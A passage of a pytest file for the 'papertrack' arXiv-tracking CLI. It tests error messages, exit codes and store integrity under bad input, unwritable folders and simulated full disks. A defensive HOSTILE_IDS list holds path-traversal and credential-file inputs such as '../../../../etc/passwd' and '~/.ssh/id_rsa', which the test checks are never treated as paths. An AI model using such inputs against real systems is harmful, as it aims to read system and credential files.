"""Bad user input and a hostile machine: `Error: what. How to fix it.`, a non-zero exit, no harm.

Every case runs the real command line on a real store (ingested from the recorded
feeds) and checks four things: the exit code, exactly one ``Error:`` line on
stderr saying what happened and then how to fix it, no traceback, and the store
(every file, byte for byte) as it was. Full-disk failures run papertrack in a
subprocess whose file writes fail with ENOSPC; an unwritable data home is a path
below a regular file (which stops root too) or, for other users, a read-only folder.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import shlex
import shutil
import subprocess
import sys
from collections.abc import Iterator, Sequence
from datetime import UTC, datetime
from pathlib import Path

import pytest
from helpers import run
from typer.testing import Result

from papertrack.export import CSV_COLUMNS, csv_cell, csv_row
from papertrack.models import Paper
from papertrack.store import ALL, Store, week_of

DATA = Path(__file__).parent / "data"
LISTING = DATA / "rss" / "atom-cs.AI-2025-08-20.first86.xml"
API_TEN = DATA / "api-atom" / "arxiv.py-2026-recorded" / "q_testing_s10_m10_34e56e15aaac.xml"
API_EMPTY = DATA / "api-atom" / "arxiv.py-2026-recorded" / "id_0000.0000_s0_m100_8b51d9633a68.xml"
#: A port nothing listens on: should a check regress, fetch fails fast, offline.
NOWHERE = ["--api-url", "http://127.0.0.1:9/api", "--listing-url", "http://127.0.0.1:9/rss"]
#: "Error: <what happened>. <How to fix it>." on one line.
ERROR_LINE = re.compile(r"Error: (?P<what>.+?[.?!]) (?P<fix>[A-Z'\"(].*[.?!])")


def assert_error(result: Result, code: int, *needles: str) -> str:
    """One ``Error:`` line with a fix, exit ``code``, no traceback; returns the line."""
    output = result.stdout + result.stderr
    assert "Traceback" not in output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(
        result.exception
    )
    assert result.exit_code == code, (result.exit_code, result.stderr)
    errors = [line for line in result.stderr.splitlines() if line.startswith("Error:")]
    assert len(errors) == 1, result.stderr
    line = errors[0]
    assert ERROR_LINE.fullmatch(line), f"no 'what. How to fix.' in {line!r}"
    for needle in needles:
        assert needle in line, (needle, line)
    return line


def assert_usage_error(result: Result, *needles: str) -> None:
    """Click's own usage errors: exit 2, one ``Error:`` line, and where to read the help."""
    assert "Traceback" not in result.stdout + result.stderr
    assert result.exit_code == 2, result.stderr
    errors = result.stderr.splitlines()
    assert len(errors) == 1 and errors[0].startswith("Error: "), result.stderr
    assert re.search(
        r"\. Run ('papertrack( [a-z]+)* --help'|the command with --help) to see how to use it\.$",
        errors[0],
    )
    for needle in needles:
        assert needle in errors[0], (needle, errors[0])


def snapshot(root: Path) -> dict[str, str]:
    """Every file under ``root``: relative path -> SHA-256 of its bytes."""
    if not root.exists():
        return {}
    return {
        str(path.relative_to(root)): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in sorted(root.rglob("*"))
        if path.is_file()
    }


def all_files(root: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*")}


def temp_files(root: Path) -> list[Path]:
    return sorted(root.rglob("*.tmp"))


# --------------------------------------------------------------------------- fixtures


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A data home with a real store, a followed topic and a user topic (built once)."""
    home = tmp_path_factory.mktemp("template") / "papertrack-home"
    env: dict[str, str | None] = {
        "PAPERTRACK_HOME": str(home),
        "PAPERTRACK_DB": None,
        "PAPERTRACK_LOG_FILE": None,
        "HOME": str(home.parent / "user-home"),
        "XDG_DATA_HOME": str(home.parent / "xdg"),
    }
    for args in (
        ["ingest", str(LISTING)],
        ["follow", "llm-agent-training"],
        ["topics", "add", "Agent Benchmarks", "--query", "agent* AND benchmark*"],
    ):
        result = run(*args, env=env)
        assert result.exit_code == 0, result.stderr
    (home / "papertrack.log").unlink(missing_ok=True)
    return home


@pytest.fixture
def home(template: Path, isolated_home: Path) -> Path:
    """This test's data home: a fresh copy of the template."""
    shutil.copytree(template, isolated_home)
    return isolated_home


@pytest.fixture
def untouched(home: Path) -> Iterator[Path]:
    """Checks, after the test, that the store and the user's files are byte for byte as before."""
    store = snapshot(home / "store")
    user_files = {name: (home / name).read_bytes() for name in ("topics.toml", "following.json")}
    yield home
    assert snapshot(home / "store") == store
    assert not temp_files(home)
    for name, data in user_files.items():
        assert (home / name).read_bytes() == data, name


# --------------------------------------------------------------------------- unknown topics

UNKNOWN_TOPIC = [
    ["latest", "nosuch-topic"],
    ["momentum", "nosuch-topic"],
    ["topic", "nosuch-topic"],
    ["follow", "llm-agent-training", "nosuch-topic"],
    ["unfollow", "nosuch-topic"],
    ["topics", "show", "nosuch-topic"],
    ["topics", "remove", "nosuch-topic"],
    ["topics", "explain", "2508.13167", "nosuch-topic"],
    ["search", "agent", "--topic", "nosuch-topic"],
    ["export", "-f", "json", "--topic", "nosuch-topic"],
]


@pytest.mark.parametrize("args", UNKNOWN_TOPIC, ids=lambda a: " ".join(a[:2]))
def test_an_unknown_topic_is_a_usage_error_that_lists_the_way_out(
    untouched: Path, args: list[str]
) -> None:
    result = run(*args)
    assert_error(result, 2, "no topic named 'nosuch-topic'", "Run 'papertrack topics'")
    assert result.stdout == ""


@pytest.mark.parametrize(
    "args",
    [[a if a != "nosuch-topic" else "" for a in args] for args in UNKNOWN_TOPIC]
    + [["ask", "", "how are agents trained?"]],
    ids=lambda a: " ".join(a[:2]),
)
def test_an_empty_topic_is_refused_not_read_as_every_paper(
    untouched: Path, args: list[str]
) -> None:
    # `papertrack export -t "$TOPIC" -o agents.bib` with TOPIC unset wrote the whole
    # store into the topic's file, and `latest ""` listed every paper.
    result = run(*args)
    assert_error(result, 2, "the topic name is empty", "'papertrack topics' lists them")
    assert result.stdout == ""


def test_a_misspelt_topic_gets_suggestions(untouched: Path) -> None:
    line = assert_error(run("latest", "LLM agent trainin"), 2)
    assert "Did you mean: LLM Agent Training (llm-agent-training)?" in line
    # A name of 100,000 characters is not echoed whole.
    long = assert_error(run("latest", "agent" * 20_000), 2, "(100,000 characters)")
    assert len(long) < 300


# --------------------------------------------------------------------------- dates

BAD_DATES = [
    ["latest", "--since", "the day before"],
    ["latest", "--since", "2026-02-30"],
    ["export", "-f", "csv", "--since", "soon"],
    ["digest", "--since", "last tuesday-ish", "--dry-run"],
    ["momentum", "llm-agent-training", "--as-of", "32/13/2026"],
    ["trending", "--as-of", "someday"],
    ["topic", "llm-agent-training", "--as-of", "x"],
    ["topics", "--as-of", "2026-13-01"],
    ["topics", "test", "agent*", "--as-of", "never"],
    ["fetch", "-c", "cs.AI", "--since", "a while", *NOWHERE],
]


@pytest.mark.parametrize("args", BAD_DATES, ids=lambda a: " ".join(a[:3]))
def test_a_malformed_date_says_which_forms_work(untouched: Path, args: list[str]) -> None:
    line = assert_error(run(*args), 2, "as a date", "Use a date such as 2026-08-01")
    assert "--since" in line or "--as-of" in line


OUT_OF_CALENDAR = [
    (["topics", "--as-of", "0001-01-01"], "chart would start before it. Choose a later date"),
    # A span, read as one: "can't read it as a date" listed its very form.
    (["latest", "--since", "99999999999999999999 days ago"], "before year 1. Give a shorter span"),
    (["topics", "show", "llm-agent-training", "--as-of", "9999-12-31"], "an earlier date"),
    (["topics", "test", "agent*", "--as-of", "9999-12-31"], "Choose an earlier date"),
    (["site", "-o", "out", "--as-of", "9999-12-31"], "Choose an earlier date"),
    (["momentum", "llm-agent-training", "--as-of", "0001-01-01"], "Choose another date"),
    (["trending", "--as-of", "9999-12-31", "--weeks", "1"], "Choose another date"),
    (["momentum", "llm-agent-training", "--window", "0"], "Use 1 or more"),
    (["trending", "--weeks", "2001"], "more weeks than arXiv has existed. Use 2,000 or fewer"),
    (["fetch", "-c", "cs.AI", "--days", "99999999999", *NOWHERE], "Give a smaller number"),
    (["fetch", "-c", "cs.AI", "--backfill", "99999999999", *NOWHERE], "Give a smaller number"),
]


@pytest.mark.parametrize(("args", "fix"), OUT_OF_CALENDAR, ids=lambda a: " ".join(a[:3]))
def test_dates_at_the_ends_of_the_calendar_are_usage_errors(
    untouched: Path, args: list[str], fix: str
) -> None:
    assert_error(run(*args), 2, fix)


@pytest.mark.parametrize(
    "args",
    [
        ["latest", "--since", "2026-08-01T00:00:00+99:00"],
        ["momentum", "llm-agent-training", "--as-of", "9999-12-31T23:00-14:00"],
        ["digest", "--since", "9999-12-31T23:59:59-12:00", "--dry-run"],
    ],
    ids=lambda a: a[0],
)
def test_dates_with_impossible_offsets_are_usage_errors(untouched: Path, args: list[str]) -> None:
    assert_error(run(*args), 2, "as a date")


# --------------------------------------------------------------------------- queries

BAD_QUERIES = [
    (["latest", "--query", "(agent"], "unbalanced parenthesis at column 1"),
    (["latest", "--query", "agent AND"], "operator AND at column 7 has nothing after it"),
    (["latest", "--query", '"tool use'], "unterminated quote at column 1"),
    (["latest", "--query", "title:"], "field title: at column 1 has no term after it"),
    (["latest", "--query", "venue:neurips"], "unknown field 'venue:'"),
    (["latest", "--query", "agent**"], "misplaced wildcard"),
    (["latest", "--query", "(" * 150 + "agent" + ")" * 150], "nested too deeply"),
    (["latest", "--query", "   "], "empty query"),
    (["search", "agent OR OR tool"], "operator OR at column 10 follows operator OR"),
    (["export", "-f", "json", "--query", ")"], "')' closes nothing"),
    (["topics", "test", "agent AND (tool OR)"], "has nothing"),
    (["topics", "add", "Tool Use", "--query", "AND tool"], "has nothing before it"),
    (["topics", "add", "Tool Use", "--query", "tool", "-c", "not a category"], "bad category"),
    (["topics", "add", "Tool Use", "--query", "tool", "--slug", "../tool"], "is not a slug"),
]


@pytest.mark.parametrize(("args", "what"), BAD_QUERIES, ids=lambda a: " ".join(a[:3])[:40])
def test_a_malformed_query_names_the_column_and_the_fix(
    untouched: Path, args: list[str], what: str
) -> None:
    assert_error(run(*args), 2, what)


@pytest.mark.parametrize("query", ["(", "agent (", "(("])
def test_an_open_parenthesis_at_the_end_is_reported_as_such(untouched: Path, query: str) -> None:
    line = assert_error(run("latest", "--query", query), 2, "unbalanced parenthesis")
    assert "closes nothing" not in line
    assert "Close it with ')'" in line


# --------------------------------------------------------------------------- options

BAD_OPTIONS = [
    (["latest", "-n", "0"], "'--limit'"),
    (["latest", "--limit", "many"], "'--limit'"),
    (["search", "agent", "-n", "-1"], "'--limit'"),
    (["topic", "llm-agent-training", "-n", "0"], "'--limit'"),
    (["latest", "-f", "xml"], "'--format'"),
    (["export", "--format", "docx"], "'--format'"),
    (["momentum", "llm-agent-training", "-f", "csv"], "'--format'"),
    (["digest", "-f", "pdf"], "'--format'"),
    (["topics", "test", "agent", "--sample", "-1"], "'--sample'"),
    (["fetch", "-c", "cs.AI", "--page-size", "5000", *NOWHERE], "'--page-size'"),
]


@pytest.mark.parametrize(("args", "option"), BAD_OPTIONS, ids=lambda a: " ".join(a[:3])[:40])
def test_a_bad_option_value_is_a_usage_error(untouched: Path, args: list[str], option: str) -> None:
    assert_usage_error(run(*args), "Invalid value for", option)


@pytest.mark.parametrize(
    ("args", "what"),
    [
        (["fetch", "-c", "cs.AI/../../x", *NOWHERE], "is not an arXiv category"),
        (["fetch", "-c", "cs AI", *NOWHERE], "is not an arXiv category"),
        (["fetch", "-c", "cs.AI", "--days", "3", "--backfill", "2", *NOWHERE], "exclude each"),
    ],
)
def test_fetch_refuses_bad_categories_before_any_request(
    untouched: Path, args: list[str], what: str
) -> None:
    assert_error(run(*args), 2, what)


def test_a_source_name_with_a_nul_is_a_failed_source(untouched: Path) -> None:
    assert_error(run("ingest", "feed\x00.xml"), 1)


def test_a_bad_lock_timeout_is_a_usage_error(untouched: Path) -> None:
    result = run("ingest", str(API_TEN), env={"PAPERTRACK_LOCK_TIMEOUT": "a minute"})
    assert_error(result, 2, "PAPERTRACK_LOCK_TIMEOUT='a minute'", "Set it to e.g. 60")


# --------------------------------------------------------------------------- unwritable home


@pytest.fixture
def blocker(tmp_path: Path) -> Path:
    """A regular file where a folder should be: writing below it fails, even for root."""
    path = tmp_path / "not-a-folder"
    path.write_text("keep me\n")
    return path


WRITERS = [
    ["ingest", str(LISTING)],
    ["follow", "llm-agent-training"],
    ["topics", "add", "Tool Use", "--query", "tool*"],
]
READERS = [
    ["latest"],
    ["show", "2508.13167"],
    ["momentum", "llm-agent-training"],
    ["topics", "test", "agent*"],
    ["digest"],
]


@pytest.mark.parametrize("args", WRITERS + READERS, ids=lambda a: a[0])
def test_a_data_home_below_a_file_is_an_error_naming_the_path(
    blocker: Path, monkeypatch: pytest.MonkeyPatch, args: list[str]
) -> None:
    monkeypatch.setenv("PAPERTRACK_HOME", str(blocker / "papertrack"))
    line = assert_error(run(*args), 1, str(blocker))
    assert re.search(r"PAPERTRACK_HOME|writable|permissions", line), line
    assert blocker.read_text() == "keep me\n"


@pytest.mark.parametrize("args", [["ingest", str(LISTING)], ["latest"], ["export", "-f", "json"]])
def test_a_db_below_a_file_is_an_error_naming_the_path(
    untouched: Path, blocker: Path, args: list[str]
) -> None:
    line = assert_error(run("--db", str(blocker / "store"), *args), 1, str(blocker / "store"))
    assert "--db" in line
    assert blocker.read_text() == "keep me\n"


def test_an_empty_db_is_refused_not_read_as_the_default_store(untouched: Path) -> None:
    # `papertrack --db "$STORE" ingest ...` with STORE unset wrote into the user's store.
    for value in ("", "  "):
        for args in (["ingest", str(LISTING)], ["latest"]):
            assert_error(run("--db", value, *args), 2, "--db is empty", "leave out --db")
    assert not Path("  ").exists()


@pytest.mark.skipif(
    not hasattr(os, "geteuid") or os.geteuid() == 0,
    reason="root writes to read-only folders; the blocker tests above cover root",
)
@pytest.mark.parametrize(
    ("args", "what"),
    [
        (["ingest", str(LISTING)], "could not create the store at"),
        (["follow", "llm-agent-training"], "following.json"),
        (["topics", "add", "Tool Use", "--query", "tool*"], "topics.toml"),
    ],
    ids=lambda a: a[0] if isinstance(a, list) else "",
)
def test_a_read_only_data_home_is_an_error_naming_the_path(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, args: list[str], what: str
) -> None:
    home = tmp_path / "read-only-home"
    home.mkdir(mode=0o500)
    monkeypatch.setenv("PAPERTRACK_HOME", str(home))
    try:
        line = assert_error(run(*args), 1, str(home), what)
        assert re.search(r"writable|PAPERTRACK_HOME|permissions", line), line
        assert list(home.iterdir()) == []
    finally:
        home.chmod(0o700)


@pytest.mark.skipif(
    not hasattr(os, "geteuid") or os.geteuid() == 0,
    reason="root writes to read-only folders",
)
def test_a_read_only_store_is_an_error_and_stays_as_it_was(home: Path) -> None:
    store = home / "store"
    before = snapshot(store)
    folders = [store, *(p for p in store.rglob("*") if p.is_dir())]
    for folder in folders:
        folder.chmod(0o500)
    try:
        line = assert_error(run("ingest", str(API_TEN)), 1, str(store))
        assert "writable" in line
    finally:
        for folder in folders:
            folder.chmod(0o700)
    assert snapshot(store) == before


def _read_only_run(store: Path, args: list[str]) -> subprocess.CompletedProcess[str]:
    """papertrack run on ``store`` mounted read-only (root: a private bind mount, the
    test skipped where that is not allowed), or with its folders made read-only."""
    command = [sys.executable, "-m", "papertrack", "--db", str(store), *args]
    if os.geteuid() != 0:
        folders = [store, *(p for p in store.rglob("*") if p.is_dir())]
        for folder in folders:
            folder.chmod(0o500)
        try:
            return subprocess.run(command, capture_output=True, text=True, timeout=120)
        finally:
            for folder in folders:
                folder.chmod(0o700)
    where = shlex.quote(str(store))
    mount = f"mount --bind {where} {where} && mount -o remount,ro,bind {where} {where}"

    def in_mount(then: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            ["unshare", "-m", "sh", "-c", f"{mount} && {then}"],
            capture_output=True,
            text=True,
            timeout=120,
        )

    probe = in_mount(f"! touch {where}/.probe 2>/dev/null")
    if probe.returncode != 0:
        pytest.skip(f"no private read-only mount here: {probe.stderr.strip()}")
    return in_mount("exec " + " ".join(map(shlex.quote, command)))


@pytest.mark.skipif(shutil.which("unshare") is None and os.geteuid() == 0, reason="no unshare")
def test_a_read_only_store_is_read_with_its_tags_when_the_topics_changed(home: Path) -> None:
    """A store on a read-only disk, read by a data home whose topics differ from the
    ones it was tagged with: every command, show included, failed on the store lock."""
    store = home / "store"
    before = snapshot(store)
    with open(home / "topics.toml", "a", encoding="utf-8") as handle:
        handle.write('\n[[topic]]\nname = "Zebras"\nquery = "zebra*"\n')
        handle.write('\n[[topic]]\nname = "GUI Agents"\nslug = "gui-agents"\nhidden = true\n')
    shown = _read_only_run(store, ["latest", "-n", "3", "--json"])
    assert shown.returncode == 0, shown.stderr
    assert len(json.loads(shown.stdout)) == 3
    assert "is read-only, so its papers keep the tags they were given" in shown.stderr
    assert "zebras" in shown.stderr and "gui-agents" in shown.stderr  # hidden ones too
    # A topic its papers could not be tagged with is not sent to ingest them again.
    none = _read_only_run(store, ["latest", "zebras"])
    assert none.returncode == 0, none.stderr
    assert none.stderr.strip().endswith(
        "No papers are tagged Zebras yet: the store is read-only, so its papers wait for a "
        "command that can write it to tag them."
    )
    assert "Ingest feeds" not in none.stderr
    assert snapshot(store) == before


# --------------------------------------------------------------------------- full disk

# Runs papertrack with every file write from the Nth one whose path matches
# PAPERTRACK_TEST_FULL_AT on failing as on a full disk: half the bytes land, then ENOSPC.
FULL_DISK = r"""
import builtins, errno, os, re, sys

at = re.compile(os.environ["PAPERTRACK_TEST_FULL_AT"])
nth = int(os.environ["PAPERTRACK_TEST_FULL_NTH"])
real_open = builtins.open
matched = []
full = []


class FullDisk:
    def __init__(self, handle):
        self.handle = handle

    def write(self, data):
        self.handle.write(data[: len(data) // 2])
        self.handle.flush()
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.handle.close()

    def __getattr__(self, name):
        return getattr(self.handle, name)


def open_on_a_full_disk(file, mode="r", *args, **kwargs):
    handle = real_open(file, mode, *args, **kwargs)
    if not any(flag in mode for flag in "wax") or isinstance(file, int):
        return handle
    if not full and at.search(os.fsdecode(file)):
        matched.append(file)
        if len(matched) == nth:
            full.append(file)  # from here on the disk stays full
    return FullDisk(handle) if full else handle


builtins.open = open_on_a_full_disk
from papertrack.cli import main

sys.argv[0] = "papertrack"
main()
"""


def run_on_full_disk(at: str, *args: str, nth: int = 1) -> subprocess.CompletedProcess[str]:
    """papertrack ``args`` in a subprocess whose disk fills at the ``nth`` write matching ``at``."""
    return subprocess.run(
        [sys.executable, "-c", FULL_DISK, *args],
        env={**os.environ, "PAPERTRACK_TEST_FULL_AT": at, "PAPERTRACK_TEST_FULL_NTH": str(nth)},
        capture_output=True,
        text=True,
        timeout=120,
    )


def assert_disk_full_error(done: subprocess.CompletedProcess[str], written: str) -> None:
    assert "Traceback" not in done.stdout + done.stderr, done.stderr
    assert done.returncode == 1, done.stderr
    errors = [line for line in done.stderr.splitlines() if line.startswith("Error:")]
    assert len(errors) == 1, done.stderr
    assert re.fullmatch(
        rf"Error: could not write {written}: No space left on device\. "
        r"Free some space on the disk\.",
        errors[0],
    ), errors[0]


def store_content(store_dir: Path) -> dict[str, object]:
    """What a store holds, whatever the bytes: its papers, id map and counts."""
    store = Store(store_dir)
    papers = sorted(
        (p.to_record() for week in store.weeks() for p in store.read_partition(week)),
        key=lambda r: str(r["arxiv_id"]),
    )
    ids: dict[str, str] = {}
    for shard in sorted((store_dir / "ids").glob("*.json")):
        ids.update(json.loads(shard.read_text())["ids"]["1"])
    index = store.index()
    return {"papers": papers, "ids": ids, "counts": index.counts, "days": index.days}


def assert_consistent(store_dir: Path) -> None:
    """Every paper once, in the week of its date, in the id map, and counted in the index."""
    store = Store(store_dir)
    content = store_content(store_dir)
    seen: dict[str, str] = {}
    counts: dict[str, dict[str, int]] = {}
    for week in store.weeks():
        for paper in store.read_partition(week):
            assert paper.arxiv_id not in seen, paper.arxiv_id
            assert week_of(paper.paper_date) == week
            seen[paper.arxiv_id] = week
            for topic in (ALL, *paper.tags):
                counts.setdefault(topic, {}).setdefault(week, 0)
                counts[topic][week] += 1
    assert content["ids"] == seen
    indexed = {
        t: {w: n for w, n in weeks.items() if n} for t, weeks in store.index().counts.items()
    }
    assert {t: w for t, w in indexed.items() if w} == counts
    assert not (store_dir / ".dirty").exists()


_WEEK_FILE = r"{store}/papers/\d{{4}}-\d{{2}}-\d{{2}}\.json"
#: Where the disk fills up during `ingest` of ten new papers (ten weeks, eight id shards),
#: in the order the store writes: (path pattern, which match, the file the error names).
FULL_AT = {
    "marker": (r"\.dirty", 1, r"{store}/\.dirty"),
    "first partition": (r"/papers/", 1, _WEEK_FILE),
    "later partition": (r"/papers/", 4, _WEEK_FILE),
    "id shard": (r"/ids/", 1, r"{store}/ids/o?\d{{4}}\.json"),
    "index": (r"index\.json", 1, r"{store}/index\.json"),
}


@pytest.mark.parametrize("where", list(FULL_AT))
def test_a_full_disk_during_ingest_is_an_error_and_the_next_writer_repairs(
    home: Path, where: str
) -> None:
    store = home / "store"
    before_bytes = snapshot(store)
    before = store_content(store)
    pattern, nth, written = FULL_AT[where]
    done = run_on_full_disk(pattern, "ingest", str(API_TEN), nth=nth)
    assert_disk_full_error(done, written.format(store=re.escape(str(store))))
    assert not temp_files(home)
    after_bytes = snapshot(store)
    if after_bytes.pop(".dirty", None) is None:
        assert after_bytes == before_bytes  # every file as it was
    else:
        # Some files were replaced before the failure: the marker makes the next writer
        # rebuild the derived files (the index is written last, so it is still the old one).
        assert where != "marker"
        assert after_bytes["index.json"] == before_bytes["index.json"]
        if where == "first partition":
            assert after_bytes == before_bytes
    # Any writer repairs the store, here one that adds nothing; then the retry adds everything.
    assert run("ingest", str(API_EMPTY)).exit_code == 0
    assert_consistent(store)
    assert run("ingest", str(API_TEN)).exit_code == 0
    assert_consistent(store)
    after = store_content(store)
    assert len(after["papers"]) == len(before["papers"]) + 10  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "where",
    [
        "marker",
        "first partition",
        "later partition",
        "id shard",
        "index",
    ],
)
def test_a_full_disk_during_ingest_leaves_the_papers_as_they_were(home: Path, where: str) -> None:
    store = home / "store"
    before = store_content(store)
    files = {p: p.read_bytes() for p in store.rglob("*") if p.is_file()}
    pattern, nth, _ = FULL_AT[where]
    done = run_on_full_disk(pattern, "ingest", str(API_TEN), nth=nth)
    assert done.returncode == 1
    # Every file of the batch was staged and none put in place: the store is byte for
    # byte what it was, with no marker and no temp file left.
    assert {p: p.read_bytes() for p in store.rglob("*") if p.is_file()} == files
    assert run("ingest", str(API_EMPTY)).exit_code == 0  # and the next writer agrees
    assert store_content(store) == before


@pytest.mark.parametrize(
    ("args", "at", "file"),
    [
        (["topics", "add", "Tool Use", "--query", "tool*"], r"topics\.toml", "topics.toml"),
        (["topics", "remove", "agent-benchmarks"], r"topics\.toml", "topics.toml"),
        (["follow", "gui-agents"], r"following\.json", "following.json"),
        (["unfollow", "llm-agent-training"], r"following\.json", "following.json"),
    ],
    ids=lambda a: " ".join(a[:2]) if isinstance(a, list) else None,
)
def test_a_full_disk_leaves_the_users_files_as_they_were(
    untouched: Path, args: list[str], at: str, file: str
) -> None:
    done = run_on_full_disk(at, *args)
    assert_disk_full_error(done, re.escape(str(untouched / file)))


def test_a_full_disk_while_exporting_leaves_no_half_file(untouched: Path, tmp_path: Path) -> None:
    out = tmp_path / "exports" / "papers.csv"
    out.parent.mkdir()
    done = run_on_full_disk(r"papers\.csv", "export", "-f", "csv", "-o", str(out))
    assert_disk_full_error(done, re.escape(str(out)))
    assert list(out.parent.iterdir()) == []


# SQLite's own writes do not go through open(): its "database or disk is full" is
# raised where a full disk raised it, inserting the search index's rows.
FULL_SEARCH_INDEX = r"""
import sqlite3, sys
from papertrack import fulltext

def full(*args, **kwargs):
    raise sqlite3.OperationalError("database or disk is full")

fulltext._insert = full
from papertrack.cli import main

sys.argv[0] = "papertrack"
main()
"""


def test_a_full_disk_under_the_search_index_leaves_every_reader_answering(home: Path) -> None:
    """With the search index behind the week files (an ingest cut short by a full
    disk) and the disk still full, every command that reads tried to rebuild it
    first and died: "papertrack failed unexpectedly (OperationalError: database or
    disk is full). This is a bug", export included. They read the week files now."""
    (home / "store" / "search.sqlite").unlink()

    def on_full_disk(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-c", FULL_SEARCH_INDEX, *args],
            capture_output=True,
            text=True,
            timeout=120,
        )

    stored = Store(home / "store").count()
    for args in (["stats"], ["latest", "-n", "3"], ["search", "agents"], ["trending"]):
        done = on_full_disk(*args)
        assert done.returncode == 0, (args, done.stderr)
        assert "This is a bug" not in done.stderr and "Traceback" not in done.stderr
        assert "Note: The search index could not be built: the disk is full." in (
            " ".join(done.stderr.split())
        ), done.stderr
    exported = on_full_disk("export", "-f", "jsonl")
    assert exported.returncode == 0, exported.stderr
    assert len(exported.stdout.splitlines()) == stored
    assert Store(home / "store").text_index_missing()  # not built: nothing half-made is used
    # With space again, the next command builds it.
    assert run("search", "agents").exit_code == 0
    assert not Store(home / "store").text_index_missing()


def test_a_repair_on_a_full_disk_says_the_search_index_waits_for_space(home: Path) -> None:
    """The salvage done, a search index that could not be rebuilt for lack of space
    ended the repair with "1 problem remain after the repair ... report this as a
    papertrack bug"; and a damaged index, rebuilt on a full disk, crashed it."""
    week = max((home / "store" / "papers").glob("*.json"))
    week.write_bytes(week.read_bytes()[: week.stat().st_size // 2])
    (home / "store" / "search.sqlite").write_bytes(b"not a database")
    done = subprocess.run(
        [sys.executable, "-c", FULL_SEARCH_INDEX, "doctor", "--repair"],
        capture_output=True,
        text=True,
        timeout=120,
    )
    said = " ".join(done.stderr.split())
    assert done.returncode == 1, done.stderr
    assert "This is a bug" not in said and "papertrack bug" not in said, said
    assert "Repaired: the store holds" in said
    assert re.search(
        r"Error: the search index could not be rebuilt with [\d,.]+ MB free on the disk\. "
        r"Free some space and run 'papertrack doctor --repair' again",
        said,
    ), said
    assert run("doctor", "--repair").exit_code == 0  # with space: the index is built
    assert run("doctor").exit_code == 0


def test_a_full_disk_while_saving_the_digest_mark_shows_the_papers_again(untouched: Path) -> None:
    done = run_on_full_disk(r"digest-state\.json", "digest", "--since", "2025-08-01")
    assert_disk_full_error(done, re.escape(str(untouched / "digest-state.json")))
    assert not (untouched / "digest-state.json").exists()
    assert done.stdout == ""  # the mark is saved before delivery: nothing was delivered
    again = run("digest", "--since", "2025-08-01", "--dry-run")
    assert again.exit_code == 0 and "papertrack digest" in again.stdout  # nothing is lost


# --------------------------------------------------------------------------- ids are not paths

HOSTILE_IDS = [
    "../../../../etc/passwd",
    "../x",
    "..",
    "/etc/passwd",
    "2508.13167/../../index",
    "2508.13167/",
    "ids/2508",
    "..\\..\\windows\\win.ini",
    "C:\\Windows\\win.ini",
    "~/.ssh/id_rsa",
    "%2e%2e%2fetc%2fpasswd",
    "https://arxiv.org/abs/../../etc/passwd",
    "file:///etc/passwd",
    "2508.13167\x00.json",
    "a\udcff",  # $(printf 'a\xff'): bytes that are not UTF-8
    "a" * 100_000,
    "2508." + "1" * 5000,
]


def files_outside(root: Path, home: Path, before: set[str]) -> set[str]:
    """Files that appeared under ``root`` but outside the data home."""
    new = all_files(root) - before
    return {name for name in new if not (root / name).is_relative_to(home)}


@pytest.mark.parametrize("arxiv_id", HOSTILE_IDS, ids=lambda s: repr(s[:24]))
def test_show_and_explain_never_turn_an_id_into_a_path(
    untouched: Path, tmp_path: Path, arxiv_id: str
) -> None:
    before = all_files(tmp_path)
    # show and explain look an id up as a stored entry's own first (another feed's
    # "blog-post-2"): the error says it is neither, not only "not an arXiv id".
    assert_error(
        run("show", arxiv_id), 2, "is not an arXiv id, nor the id of a stored paper", "Give one as"
    )
    assert_error(run("show", arxiv_id, "--json"), 2, "is not an arXiv id")
    assert_error(run("topics", "explain", arxiv_id), 2, "is not an arXiv id")
    assert_error(run("topics", "explain", arxiv_id, "llm-agent-training"), 2)
    assert files_outside(tmp_path, untouched, before) == set()


def test_a_folder_where_the_search_index_belongs_is_named_and_left_alone(home: Path) -> None:
    # Found only at the rename, after a whole new index was written beside it: every
    # command failed "unexpectedly" and left that copy behind, doctor --repair too.
    index = home / "store" / "search.sqlite"
    index.unlink()
    index.mkdir()
    (index / "mine.txt").write_text("not papertrack's", encoding="utf-8")
    said = "search.sqlite is a folder, not papertrack's search index"
    for args in (["search", "agent"], ["doctor", "--repair"]):
        assert_error(run(*args), 1, said, "Move it out of the store")
    checked = run("doctor")
    assert checked.exit_code == 1 and f"{said}. Move it out of the store." in checked.stdout
    assert (index / "mine.txt").read_text(encoding="utf-8") == "not papertrack's"
    assert not temp_files(home)
    shutil.rmtree(index)  # moved out, as said: the index is built again
    result = run("search", "agent", "--json")
    assert result.exit_code == 0 and json.loads(result.stdout), result.stderr


def test_a_search_index_linked_from_outside_the_store_is_replaced_not_written_through(
    home: Path, tmp_path: Path
) -> None:
    """An ingest changed the file the link pointed at, outside the store."""
    index = home / "store" / "search.sqlite"
    outside = tmp_path / "elsewhere.sqlite"
    shutil.move(index, outside)
    index.symlink_to(outside)
    before = outside.read_bytes()
    checked = run("doctor")
    assert checked.exit_code == 0, checked.stdout + checked.stderr
    assert "search.sqlite is a link to another file, which papertrack does not" in checked.stdout
    assert run("ingest", str(API_TEN)).exit_code == 0
    assert outside.read_bytes() == before
    assert not index.is_symlink() and index.is_file()
    found = run("search", "agent", "--json")
    assert found.exit_code == 0 and json.loads(found.stdout), found.stderr
    assert run("doctor").stdout.count("search.sqlite") == 0


@pytest.mark.parametrize(
    ("name", "make", "args", "said"),
    [
        ("index.json", "folder", ["doctor", "--repair"],
         "A folder stands where papertrack keeps that file: move it away"),
        (".lock", "folder", ["ingest", str(LISTING)],
         "A folder stands where papertrack keeps that file: move it away"),
        ("papers", "file", ["latest", "-n", "1"],
         "is a file, not a folder of week files. Move it away or restore the folder"),
        ("ids", "file", ["ingest", str(LISTING)],
         "A file stands where a folder of that path belongs: move it away"),
    ],
)  # fmt: skip
def test_a_folder_or_file_in_the_wrong_place_is_named_with_the_right_fix(
